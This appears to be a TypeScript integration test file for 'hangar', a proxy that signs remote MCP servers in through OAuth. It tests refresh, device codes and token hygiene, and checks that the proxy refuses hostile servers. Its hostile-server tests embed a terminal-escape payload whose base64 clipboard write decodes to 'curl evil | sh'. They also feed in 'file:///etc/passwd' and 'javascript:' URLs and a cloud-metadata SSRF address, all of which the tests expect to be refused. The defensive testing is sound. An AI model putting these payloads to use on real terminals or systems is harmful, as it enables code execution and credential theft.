/**
 * Remote MCP servers behind OAuth, through the workload's proxy, against real parts: an
 * authorization server on loopback (`oidc-provider`: registration, PKCE, refresh, resource
 * indicators) and a protected MCP server (the official SDK) that checks the JWTs it gets
 * (signed by that server, audience = its URL) and answers 401 with RFC 9728 metadata. The
 * browser step fills the provider's own login and consent forms over HTTP.
 */
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CreateWorkload, DeleteWorkload, DeleteWorkloads, RestartWorkload, UpdateWorkload, ExportWorkload, GetWorkload, GetWorkloadProxyLogs, ListWorkloads, SignInWorkload, WorkloadsDidChange } from '../protocol/protocol.workloads.js';
import { browsableUrl } from '../protocol/browserUrl.js';
import { ListSecretKeys, SetupSecrets } from '../protocol/protocol.secrets.js';
import { AuthorizationServer, completeSignIn } from './fixtures/remoteAuth/authorizationServer.js';
import { ProtectedServer } from './fixtures/remoteAuth/protectedServer.js';
import { openerOf } from '../server/cli/commands/signin.js';
import { connect, textOf, uniqueName, waitFor } from './fixtures/workloads/helpers.js';
import { createTestHome, type TestHome } from './support/home.js';
import { spawn } from 'node:child_process';
import { HANGAR_BIN, runHangar, spawnDaemon, startServe, type DaemonProcess } from './support/processes.js';
import { listen } from './support/registry.js';
import { callRest } from './support/rest.js';

let home: TestHome;
let daemon: DaemonProcess;
let as: AuthorizationServer;
let remote: ProtectedServer;
const servers: Server[] = [];
const notified: Array<{ name: string; status: string; status_context?: string }> = [];
/** Every answer a door gave in this file, searched for tokens at the end. */
const answers: unknown[] = [];

async function status(name: string): Promise<{ status: string; status_context?: string }> {
	const { workloads } = await daemon.client.request(ListWorkloads, { all: true });
	const found = workloads.find((workload) => workload.name === name)!;
	answers.push(found);
	return { status: found.status!, status_context: found.status_context };
}

async function signIn(name: string, through = daemon): Promise<void> {
	const started = await through.client.request(SignInWorkload, { name });
	answers.push(started);
	expect(started).toMatchObject({ name, status: 'pending', authorization_url: expect.stringContaining(`${as.issuer}/auth?`) });
	const url = new URL(started.authorization_url!);
	expect(url.searchParams.get('code_challenge_method')).toBe('S256');
	expect(url.searchParams.get('resource')).toBe(remote.url);
	expect(new URL(url.searchParams.get('redirect_uri')!).hostname).toBe('127.0.0.1');
	const callback = await completeSignIn(started.authorization_url!);
	expect(callback.status).toBe(200);
	const done = await through.client.request(SignInWorkload, { name, wait: 30 });
	answers.push(done);
	expect(done.status).toBe('signed_in');
	await waitFor(async () => (await through.client.request(ListWorkloads, { all: true })).workloads.find((workload) => workload.name === name)?.status === 'running', `${name} running after the sign-in`);
}

async function echo(port: number, message: string): Promise<string> {
	const client = await connect(`http://127.0.0.1:${port}/mcp`, 'streamable-http');
	try {
		const tools = await client.listTools();
		expect(tools.tools.map((tool) => tool.name).sort()).toEqual(['echo', 'write']);
		return textOf(await client.callTool({ name: 'echo', arguments: { message } }));
	} finally {
		await client.close();
	}
}

beforeAll(async () => {
	home = await createTestHome();
	home.env.HANGAR_SECRETS_KEYRING = 'off';
	home.env.HANGAR_SECRETS_PASSWORD = 'remote-oauth-test-password';
	as = await AuthorizationServer.start();
	remote = await ProtectedServer.start({ authorizationServer: as.issuer, issuer: as.issuer, jwksUrl: as.jwksUrl() });
	daemon = spawnDaemon(home.env);
	await daemon.client.initialize('remote-oauth-test');
	daemon.client.onNotification(WorkloadsDidChange, (params) => notified.push(params));
	await daemon.client.request(SetupSecrets, { provider_type: 'encrypted' });
}, 60_000);

afterAll(async () => {
	const { workloads } = await daemon.client.request(ListWorkloads, { all: true });
	if (process.env.DEBUG_OAUTH) for (const workload of workloads) console.log(await daemon.client.request(GetWorkloadProxyLogs, { name: workload.name }));
	if (workloads.length) {
		// The delete answers at once and works in the background: the daemon must live until it is done, or their proxies outlive the test.
		await daemon.client.request(DeleteWorkloads, { names: workloads.map((workload) => workload.name) });
		await waitFor(async () => (await daemon.client.request(ListWorkloads, { all: true })).workloads.length === 0, 'the workloads deleted', 50_000);
	}
	await daemon?.stop();
	for (const server of servers) server.close();
	await remote?.stop();
	await as?.stop();
	await home?.dispose();
}, 60_000);

describe('a remote server behind OAuth', { timeout: 120_000 }, () => {
	// The workload the tests after the first work on: signed in to as the first test shows.
	const name = uniqueName('oauth');
	let port: number;

	beforeAll(async () => {
		({ port } = await daemon.client.request(CreateWorkload, { name, url: remote.url }));
		await signIn(name);
		// Its token is then one the server has seen, which remote.expireTokens() refuses from then on.
		expect(await echo(port, 'signed in')).toBe('protected echo: signed in');
	}, 120_000);

	it('is discovered from its 401, registered with, and signed in to; then an MCP session works through the proxy', async () => {
		const name = uniqueName('oauth-first');
		// Nothing says the server wants OAuth but its 401 to the proxy's first request.
		const { port } = await daemon.client.request(CreateWorkload, { name, url: remote.url });
		const needed = await status(name);
		expect(needed.status).toBe('unauthenticated');
		// A call before the sign-in is told to sign in.
		await expect(echo(port, 'before')).rejects.toThrow(/sign/i);
		expect(needed.status_context).toContain(`${as.issuer}/auth?`);
		await waitFor(async () => notified.some((change) => change.name === name && change.status === 'unauthenticated'), 'a didChange for unauthenticated');
		await signIn(name);
		expect(await echo(port, 'hello')).toBe('protected echo: hello');
		// A client's own Authorization header stays with the proxy: the server gets the proxy's token.
		const initialize = { jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'raw', version: '1' } } };
		const raw = await fetch(`http://127.0.0.1:${port}/mcp`, {
			method: 'POST',
			headers: { 'Content-Type': 'application/json', Accept: 'application/json, text/event-stream', Authorization: 'Bearer client-own-token' },
			body: JSON.stringify(initialize),
		});
		expect(raw.status).toBe(200);
		await raw.text();
		expect(remote.authorizations.length).toBeGreaterThan(0);
		expect(remote.authorizations.every((header) => header.startsWith('Bearer ey'))).toBe(true);
	});

	it('refreshes a refused access token without the user', async () => {
		const refreshes = as.refreshes;
		remote.expireTokens();
		expect(await echo(port, 'again')).toBe('protected echo: again');
		expect(as.refreshes).toBeGreaterThan(refreshes);
		expect((await status(name)).status).toBe('running');
	});

	it('asks for a sign-in with more scope when the server says insufficient_scope, and the call then works', async () => {
		const client = await connect(`http://127.0.0.1:${port}/mcp`, 'streamable-http');
		try {
			const refused = await client.callTool({ name: 'write', arguments: {} }).then(
				(result) => JSON.stringify(result),
				(error: Error) => error.message,
			);
			expect(refused).toMatch(/scope/);
		} finally {
			await client.close();
		}
		const needed = await waitFor(async () => {
			const current = await status(name);
			return current.status === 'unauthenticated' && current;
		}, 'unauthenticated for the step-up');
		expect(decodeURIComponent(needed.status_context!.replace(/\+/g, ' '))).toContain('mcp:write');
		await signIn(name);
		const after = await connect(`http://127.0.0.1:${port}/mcp`, 'streamable-http');
		try {
			expect(textOf(await after.callTool({ name: 'write', arguments: {} }))).toBe('written');
		} finally {
			await after.close();
		}
	});

	it('a revoked refresh token leads to unauthenticated, calls get a clear error, and a new sign-in resumes it', async () => {
		await as.revokeRefreshTokens();
		remote.expireTokens();
		await expect(echo(port, 'revoked')).rejects.toThrow(/sign/i);
		const needed = await waitFor(async () => {
			const current = await status(name);
			return current.status === 'unauthenticated' && current;
		}, 'unauthenticated after the refused refresh');
		expect(needed.status_context).toMatch(/refresh token/);
		await signIn(name);
		expect(await echo(port, 'back')).toBe('protected echo: back');
	});

	it('hangar export and GET …/export keep the reference to the refresh token, so that wherever the export runs can refresh', async () => {
		const ref = `oauth/${name}/refresh_token`;
		const printed = await runHangar(['export', name], home.env);
		expect(printed.code).toBe(0);
		expect(JSON.parse(printed.stdout).remote_auth_config).toMatchObject({ cached_refresh_token_ref: ref });
		const serve = await startServe(home.env);
		try {
			const response = await callRest(serve.url, ExportWorkload, { name });
			expect(response.status).toBe(200);
			expect((response.body as { remote_auth_config?: object }).remote_auth_config).toMatchObject({ cached_refresh_token_ref: ref });
		} finally {
			await serve.stop();
		}
	});

	it('hangar export warns when no secrets provider could keep the refresh token (the export then has no reference to it)', async () => {
		const readOnly = await createTestHome();
		readOnly.env.HANGAR_SECRETS_KEYRING = 'off';
		const other = spawnDaemon(readOnly.env);
		const memoryOnly = uniqueName('memory-only');
		try {
			await other.client.initialize('remote-oauth-read-only-secrets');
			// The environment provider reads HANGAR_SECRET_* and cannot store a value.
			await other.client.request(SetupSecrets, { provider_type: 'environment' });
			await other.client.request(CreateWorkload, { name: memoryOnly, url: remote.url });
			await signIn(memoryOnly, other);
			const printed = await runHangar(['export', memoryOnly], readOnly.env);
			expect(printed.code).toBe(0);
			expect(JSON.parse(printed.stdout).remote_auth_config?.cached_refresh_token_ref).toBeUndefined();
			expect(printed.stderr).toMatch(/warning: .*no cached_refresh_token_ref.*hangar secret setup/);
			// Where a provider keeps it, the same export is quiet.
			expect((await runHangar(['export', name], home.env)).stderr).toBe('');
		} finally {
			await other.client.request(DeleteWorkload, { name: memoryOnly }).catch(() => undefined);
			await waitFor(async () => (await other.client.request(ListWorkloads, { all: true })).workloads.length === 0, 'the workload deleted', 50_000).catch(() => undefined);
			await other.stop();
			await readOnly.dispose();
		}
	});

	it('a restarted proxy picks the sign-in up from the secrets provider, without the user', async () => {
		const refreshes = as.refreshes;
		await daemon.client.request(RestartWorkload, { name });
		await waitFor(async () => (await status(name)).status === 'running', `${name} running after the restart`);
		expect(await echo(port, 'restarted')).toBe('protected echo: restarted');
		expect(as.refreshes).toBeGreaterThan(refreshes);
	});

	it('an update that keeps the URL keeps the sign-in', async () => {
		await daemon.client.request(UpdateWorkload, { name, url: remote.url, tools: ['echo', 'write'] });
		await waitFor(async () => (await status(name)).status === 'running', `${name} running after the update`);
		expect(await echo(port, 'updated')).toBe('protected echo: updated');
	});

	it('keeps every token out of state files, logs, exports and answers', async () => {
		// A refresh first, so that tokens of more than one sign-in and refresh are looked for.
		remote.expireTokens();
		expect(await echo(port, 'refreshed')).toBe('protected echo: refreshed');
		const exported = await daemon.client.request(ExportWorkload, { name });
		const detail = await daemon.client.request(GetWorkload, { name });
		const logs = await daemon.client.request(GetWorkloadProxyLogs, { name });
		answers.push(exported, detail, logs);
		const auth = (exported as { remote_auth_config?: Record<string, unknown> }).remote_auth_config;
		expect(auth).toMatchObject({ cached_refresh_token_ref: `oauth/${name}/refresh_token`, cached_client_id: expect.any(String), cached_issuer: as.issuer });
		const tokens = [...remote.tokensSeen, ...as.refreshTokens];
		expect(tokens.length).toBeGreaterThan(3);
		const files: string[] = [];
		for (const entry of await readdir(home.path, { recursive: true, withFileTypes: true })) {
			if (entry.isFile()) files.push(await readFile(join(entry.parentPath, entry.name), 'latin1'));
		}
		const everything = [...files, ...answers.map((answer) => JSON.stringify(answer))].join('\n');
		for (const token of tokens) expect(everything.includes(token), 'a token was written somewhere').toBe(false);
	});
});

/** Runs `hangar ARGS…`, signing in at the URL it prints on stderr, the way a user would. */
function runSigningIn(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
	return new Promise((resolve, reject) => {
		const child = spawn(process.execPath, [HANGAR_BIN, ...args], { env: home.env, stdio: ['ignore', 'pipe', 'pipe'] });
		let stdout = '';
		let stderr = '';
		let signing: Promise<unknown> | undefined;
		child.stdout!.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
		child.stderr!.on('data', (chunk: Buffer) => {
			stderr += chunk.toString();
			const url = /^\s+(http\S+\/auth\?\S+)$/m.exec(stderr)?.[1];
			if (url && !signing) signing = completeSignIn(url).catch(reject);
		});
		child.once('error', reject);
		child.once('close', (code) => resolve({ code: code ?? -1, stdout, stderr }));
	});
}

describe('the sign-in doors', { timeout: 120_000 }, () => {
	it('hangar run URL --remote-auth prints the URL (--remote-auth-skip-browser), waits for the sign-in, and the workload runs', async () => {
		const name = uniqueName('cli-run');
		const result = await runSigningIn(['run', remote.url, '--name', name, '--remote-auth', '--remote-auth-skip-browser', '--remote-auth-scopes', 'mcp:read', '--remote-auth-timeout', '1m']);
		expect(result.stderr).toContain('Open this URL to sign in');
		expect(result.stdout).toContain(`Workload ${name} is signed in to its server`);
		expect(result.stdout).toContain(`Workload ${name} is running`);
		expect(result.code).toBe(0);
		const { workloads } = await daemon.client.request(ListWorkloads, {});
		const port = workloads.find((workload) => workload.name === name)!.port!;
		expect(await echo(port, 'cli')).toBe('protected echo: cli');
		const detail = await daemon.client.request(GetWorkload, { name });
		expect(detail.oauth_config).toMatchObject({ scopes: ['mcp:read'], skip_browser: true, timeout: '1m' });
	});

	it('hangar edit NAME --remote-auth-scopes changes the sign-in settings, and signs in again when the server wants it', async () => {
		const name = uniqueName('cli-edit');
		await daemon.client.request(CreateWorkload, { name, url: remote.url, oauth_config: { use_pkce: true } });
		const result = await runSigningIn(['edit', name, '--remote-auth-skip-browser', '--remote-auth-scopes', 'mcp:read', '--remote-auth-timeout', '1m']);
		expect(result.stdout).toContain(`Workload ${name} is signed in to its server`);
		expect(result.code).toBe(0);
		const detail = await daemon.client.request(GetWorkload, { name });
		expect(detail.oauth_config).toMatchObject({ use_pkce: true, scopes: ['mcp:read'], skip_browser: true });
		const { workloads } = await daemon.client.request(ListWorkloads, {});
		expect(await echo(workloads.find((workload) => workload.name === name)!.port!, 'edited')).toBe('protected echo: edited');
		await daemon.client.request(DeleteWorkload, { name });
	});

	it('hangar signin NAME signs an unauthenticated workload in', async () => {
		const name = uniqueName('cli-signin');
		const { port } = await daemon.client.request(CreateWorkload, { name, url: remote.url, oauth_config: { use_pkce: true } });
		expect((await status(name)).status).toBe('unauthenticated');
		const result = await runSigningIn(['signin', name, '--skip-browser', '--timeout', '60s']);
		expect(result.stdout).toContain(`Workload ${name} is signed in to its server`);
		expect(result.code).toBe(0);
		expect(await echo(port, 'signin')).toBe('protected echo: signin');
		// Removing the workload removes what its sign-in stored.
		const stored = async () => (await daemon.client.request(ListSecretKeys, {})).keys.map((key) => key.key).filter((key) => key.startsWith(`oauth/${name}/`));
		expect(await stored()).toEqual([`oauth/${name}/refresh_token`]);
		await daemon.client.request(DeleteWorkload, { name });
		await waitFor(async () => (await stored()).length === 0, 'its secrets gone');
	});

	it('POST /api/v1beta/workloads/{name}/signin answers the URL, then (with wait) the outcome', async () => {
		const serve = await startServe(home.env);
		try {
			const name = uniqueName('rest-signin');
			const { port } = await daemon.client.request(CreateWorkload, { name, url: remote.url, oauth_config: { use_pkce: true } });
			const post = async (body: unknown) => {
				const response = await fetch(`${serve.url}/api/v1beta/workloads/${name}/signin`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
				const json = (await response.json()) as { status: string; authorization_url?: string };
				answers.push(json);
				return { status: response.status, json };
			};
			const started = await post({});
			expect(started).toMatchObject({ status: 200, json: { name, status: 'pending', authorization_url: expect.stringContaining(as.issuer) } });
			expect((await completeSignIn(started.json.authorization_url!)).status).toBe(200);
			expect(await post({ wait: 30 })).toMatchObject({ status: 200, json: { name, status: 'signed_in' } });
			expect(await echo(port, 'rest')).toBe('protected echo: rest');
		} finally {
			await serve.stop();
		}
	});

	it('answers 409 for a workload that is not a remote server behind OAuth', async () => {
		const name = uniqueName('static');
		await daemon.client.request(CreateWorkload, { name, url: remote.url, header_forward: { add_plaintext_headers: { Authorization: 'Bearer static' } } });
		await expect(daemon.client.request(SignInWorkload, { name })).rejects.toThrow(/OAuth|static/);
	});
});

describe('device authorization and refresh ahead of expiry', { timeout: 120_000 }, () => {
	it('signs in with a device code (RFC 8628) entered on another device', async () => {
		const name = uniqueName('device');
		const { port } = await daemon.client.request(CreateWorkload, { name, url: remote.url, oauth_config: { use_pkce: true } });
		const started = await daemon.client.request(SignInWorkload, { name, device: true });
		answers.push(started);
		expect(started).toMatchObject({ status: 'pending', user_code: expect.any(String), verification_uri: expect.stringContaining(`${as.issuer}/device`) });
		await waitFor(async () => (await status(name)).status_context?.includes(started.user_code!), 'the device code in the status');
		const page = await completeSignIn(started.verification_uri!);
		expect(page.status).toBe(200);
		expect(await daemon.client.request(SignInWorkload, { name, device: true, wait: 60 })).toMatchObject({ status: 'signed_in' });
		expect(await echo(port, 'device')).toBe('protected echo: device');
	});

	it('refreshes a 10 s token ahead of its expiry, with no call and no user, a few times a minute rather than in a storm', async () => {
		const shortLived = await AuthorizationServer.start({ accessTokenTTL: 10 });
		const server = await ProtectedServer.start({ authorizationServer: shortLived.issuer, issuer: shortLived.issuer, jwksUrl: shortLived.jwksUrl() });
		try {
			const name = uniqueName('short');
			const { port } = await daemon.client.request(CreateWorkload, { name, url: server.url, oauth_config: { use_pkce: true } });
			const started = await daemon.client.request(SignInWorkload, { name });
			expect((await completeSignIn(started.authorization_url!)).status).toBe(200);
			expect(await daemon.client.request(SignInWorkload, { name, wait: 30 })).toMatchObject({ status: 'signed_in' });
			const signedInAt = Date.now();
			await waitFor(async () => shortLived.refreshes >= 2, 'two refreshes ahead of expiry');
			// Refreshed at three quarters of its life, at least 5 s apart: about one in 7.5 s, where
			// refreshing "60 s before expiry" made thousands a minute.
			await new Promise((resolve) => setTimeout(resolve, 5_000));
			const seconds = (Date.now() - signedInAt) / 1000;
			expect(shortLived.refreshes).toBeLessThanOrEqual(Math.ceil(seconds / 5) + 1);
			const client = await connect(`http://127.0.0.1:${port}/mcp`, 'streamable-http');
			try {
				expect(textOf(await client.callTool({ name: 'echo', arguments: { message: 'fresh' } }))).toBe('protected echo: fresh');
			} finally {
				await client.close();
			}
			// The refreshed sign-in is still what an export refers to.
			const exported = await daemon.client.request(ExportWorkload, { name });
			expect(exported.remote_auth_config).toMatchObject({ cached_refresh_token_ref: expect.stringContaining(`oauth/${name}/refresh_token`) });
			await daemon.client.request(DeleteWorkloads, { names: [name] });
		} finally {
			await server.stop();
			await shortLived.stop();
		}
	});
});

describe('an authorization server that cannot be reached', { timeout: 60_000 }, () => {
	it('is auth_retrying while the refresh cannot reach it; calls get a clear error and the proxy keeps serving', async () => {
		const gone = await AuthorizationServer.start();
		const server = await ProtectedServer.start({ authorizationServer: gone.issuer, issuer: gone.issuer, jwksUrl: gone.jwksUrl() });
		try {
			const name = uniqueName('retrying');
			const { port } = await daemon.client.request(CreateWorkload, { name, url: server.url, oauth_config: { use_pkce: true } });
			const started = await daemon.client.request(SignInWorkload, { name });
			expect((await completeSignIn(started.authorization_url!)).status).toBe(200);
			expect(await daemon.client.request(SignInWorkload, { name, wait: 30 })).toMatchObject({ status: 'signed_in' });
			await gone.stop();
			server.expireTokens();
			const failure = await connect(`http://127.0.0.1:${port}/mcp`, 'streamable-http').then(
				async (client) => {
					await client.close();
					return 'connected';
				},
				(error: Error) => error.message,
			);
			expect(failure).toMatch(/sign/);
			const retrying = await waitFor(async () => {
				const current = await status(name);
				return current.status === 'auth_retrying' && current;
			}, 'auth_retrying');
			expect(retrying.status_context).toMatch(/cannot (refresh|reach)/);
			// Meanwhile a call is told to come back when the proxy tries again: 503 with Retry-After.
			const busy = await fetch(`http://127.0.0.1:${port}/mcp`, {
				method: 'POST',
				headers: { 'Content-Type': 'application/json', Accept: 'application/json, text/event-stream' },
				body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-11-25', capabilities: {}, clientInfo: { name: 'raw', version: '1' } } }),
			});
			expect(busy.status).toBe(503);
			expect(Number(busy.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
			expect(await busy.text()).toContain('hangar signin');
			await waitFor(async () => notified.some((change) => change.name === name && change.status === 'auth_retrying'), 'a didChange for auth_retrying');
			await daemon.client.request(DeleteWorkloads, { names: [name] });
		} finally {
			await server.stop();
		}
	});
});

describe('refusals', { timeout: 60_000 }, () => {
	it('refuses an authorization server on a link-local address (the outbound-address policy)', async () => {
		const lured = await ProtectedServer.start({ authorizationServer: 'https://169.254.169.254', issuer: as.issuer, jwksUrl: as.jwksUrl() });
		try {
			const name = uniqueName('metadata');
			await daemon.client.request(CreateWorkload, { name, url: lured.url, oauth_config: { use_pkce: true } });
			const answer = await daemon.client.request(SignInWorkload, { name });
			expect(answer).toMatchObject({ status: 'failed', message: expect.stringContaining('link-local') });
		} finally {
			await lured.stop();
		}
	});

	it('refuses an authorization server that does not advertise PKCE (code_challenge_methods_supported absent)', async () => {
		const noPkce = createServer((request, response) => {
			if (request.url?.includes('/.well-known/')) {
				response.writeHead(200, { 'Content-Type': 'application/json' }).end(
					JSON.stringify({ issuer: noPkceUrl, authorization_endpoint: `${noPkceUrl}/auth`, token_endpoint: `${noPkceUrl}/token`, registration_endpoint: `${noPkceUrl}/reg`, response_types_supported: ['code'] }),
				);
			} else response.writeHead(404).end();
		});
		servers.push(noPkce);
		const noPkceUrl = `http://127.0.0.1:${await listen(noPkce)}`;
		const lured = await ProtectedServer.start({ authorizationServer: noPkceUrl, issuer: as.issuer, jwksUrl: as.jwksUrl() });
		try {
			const name = uniqueName('no-pkce');
			await daemon.client.request(CreateWorkload, { name, url: lured.url, oauth_config: { use_pkce: true } });
			const answer = await daemon.client.request(SignInWorkload, { name });
			expect(answer).toMatchObject({ status: 'failed', message: expect.stringContaining('PKCE') });
			expect(answer.authorization_url).toBeUndefined();
			const current = await waitFor(async () => {
				const found = await status(name);
				return found.status_context?.includes('code_challenge_methods_supported') && found;
			}, 'the refusal in the status');
			expect(current.status).toBe('unauthenticated');
		} finally {
			await lured.stop();
		}
	});

	it('hands the system opener only an https or loopback http URL, as one argument, never a file: URL', async () => {
		// A stand-in `xdg-open` that records the arguments it was given.
		const bin = join(home.path, 'opener-bin');
		const record = join(bin, 'opened');
		await mkdir(bin, { recursive: true });
		await writeFile(join(bin, 'xdg-open'), `#!/bin/sh\nprintf '%s\\n' "$#" "$@" > ${record}\n`, { mode: 0o755 });
		const env = { ...home.env, PATH: `${bin}:${process.env.PATH}` };

		const lured = uniqueName('file-url');
		await daemon.client.request(CreateWorkload, { name: lured, url: remote.url, oauth_config: { authorize_url: 'file:///etc/passwd', token_url: `${as.issuer}/token`, client_id: 'lured' } });
		const refused = await runHangar(['signin', lured, '--timeout', '1'], env);
		expect(refused.code).toBe(1);
		expect(refused.stderr).toContain('neither https nor http to loopback');
		await expect(readFile(record, 'utf8')).rejects.toThrow(/ENOENT/);

		const name = uniqueName('opener');
		await daemon.client.request(CreateWorkload, { name, url: remote.url, oauth_config: { use_pkce: true } });
		const opened = await runHangar(['signin', name, '--timeout', '1'], env);
		expect(opened.stderr).toContain('Opening your browser');
		const url = /^\s+(http\S+)$/m.exec(opened.stderr)![1]!;
		await waitFor(async () => (await readFile(record, 'utf8').catch(() => '')).length > 0, 'the opener run');
		expect(await readFile(record, 'utf8')).toBe(`1\n${url}\n`);
		expect(openerOf(new URL(url), 'win32')).toEqual(['rundll32', ['url.dll,FileProtocolHandler', url]]);
		expect(openerOf(new URL(url), 'darwin')).toEqual(['open', [url]]);
		for (const hostile of ['file:///etc/passwd', 'javascript:alert(1)', 'vscode://evil/x', 'http://auth.example/authorize', 'https://user:pass@auth.example/']) {
			expect(browsableUrl(hostile), hostile).toBeUndefined();
		}
		expect(browsableUrl('http://[::1]:8080/auth')?.href).toBe('http://[::1]:8080/auth');
	});

	it('refuses authorization server metadata that names another issuer', async () => {
		// A metadata server that claims to be the real authorization server.
		const impostor = createServer((request, response) => {
			if (request.url?.includes('/.well-known/')) {
				response.writeHead(200, { 'Content-Type': 'application/json' }).end(
					JSON.stringify({ issuer: as.issuer, authorization_endpoint: `${as.issuer}/auth`, token_endpoint: `${as.issuer}/token`, registration_endpoint: `${as.issuer}/reg`, response_types_supported: ['code'], code_challenge_methods_supported: ['S256'] }),
				);
			} else response.writeHead(404).end();
		});
		servers.push(impostor);
		const impostorUrl = `http://127.0.0.1:${await listen(impostor)}`;
		const lured = await ProtectedServer.start({ authorizationServer: impostorUrl, issuer: as.issuer, jwksUrl: as.jwksUrl() });
		try {
			const name = uniqueName('impostor');
			await daemon.client.request(CreateWorkload, { name, url: lured.url, oauth_config: { use_pkce: true } });
			const answer = await daemon.client.request(SignInWorkload, { name });
			expect(answer.status).toBe('failed');
			expect(answer.message).toContain('names another issuer');
			const current = await waitFor(async () => {
				const found = await status(name);
				return found.status_context?.includes('names another issuer') && found;
			}, 'the refusal in the status');
			expect(current.status).toBe('unauthenticated');
		} finally {
			await lured.stop();
		}
	});
});

describe('a hostile authorization server', { timeout: 60_000 }, () => {
	// A screen clear, an OSC 52 clipboard write, a C1 CSI and a right-to-left override.
	const HOSTILE = '\u001b[2J\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u009b31m\u202eevil';
	const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/;

	/** What `hangar ls --all` and `hangar info NAME` print, both streams. */
	async function printed(name: string): Promise<string> {
		const [ls, info] = await Promise.all([runHangar(['ls', '--all'], home.env), runHangar(['info', name], home.env)]);
		return `${ls.stdout}${ls.stderr}${info.stdout}${info.stderr}`;
	}

	it('cannot drive the terminal through its callback error=, whose reason is stored bounded', async () => {
		const name = uniqueName('hostile-callback');
		await daemon.client.request(CreateWorkload, { name, url: remote.url, oauth_config: { use_pkce: true } });
		const started = await daemon.client.request(SignInWorkload, { name });
		const authorization = new URL(started.authorization_url!);
		const callback = new URL(authorization.searchParams.get('redirect_uri')!);
		callback.searchParams.set('state', authorization.searchParams.get('state')!);
		callback.searchParams.set('error', HOSTILE);
		callback.searchParams.set('error_description', `${HOSTILE}${'x'.repeat(5_000)}`);
		expect((await fetch(callback)).status).toBe(400);
		const refused = await waitFor(async () => {
			const found = await status(name);
			return found.status_context?.includes('refused the sign-in') && found;
		}, 'the refusal in the status');
		expect(refused.status_context!.length).toBeLessThanOrEqual(500);
		const output = await printed(name);
		expect(output).toContain('refused the sign-in');
		expect(output).toContain('\\u001b]52;c;Y3VybCBldmlsIHwgc2g=\\u0007');
		expect(output).not.toMatch(CONTROL);
	});

	it('cannot drive the terminal through the issuer its metadata names', async () => {
		const impostor = createServer((request, response) => {
			if (request.url?.includes('/.well-known/')) {
				response.writeHead(200, { 'Content-Type': 'application/json' }).end(
					JSON.stringify({ issuer: `https://auth.example${HOSTILE}`, authorization_endpoint: `${as.issuer}/auth`, token_endpoint: `${as.issuer}/token`, response_types_supported: ['code'], code_challenge_methods_supported: ['S256'] }),
				);
			} else response.writeHead(404).end();
		});
		servers.push(impostor);
		const lured = await ProtectedServer.start({ authorizationServer: `http://127.0.0.1:${await listen(impostor)}`, issuer: as.issuer, jwksUrl: as.jwksUrl() });
		try {
			const name = uniqueName('hostile-issuer');
			await daemon.client.request(CreateWorkload, { name, url: lured.url, oauth_config: { use_pkce: true } });
			const answer = await daemon.client.request(SignInWorkload, { name });
			expect(answer.message).toContain('names another issuer');
			expect(answer.message).not.toMatch(CONTROL);
			await waitFor(async () => (await status(name)).status_context?.includes('names another issuer'), 'the refusal in the status');
			const output = await printed(name);
			expect(output).toContain('names another issuer ("https://auth.example\\u001b[2J');
			expect(output).not.toMatch(CONTROL);
		} finally {
			await lured.stop();
		}
	});
});
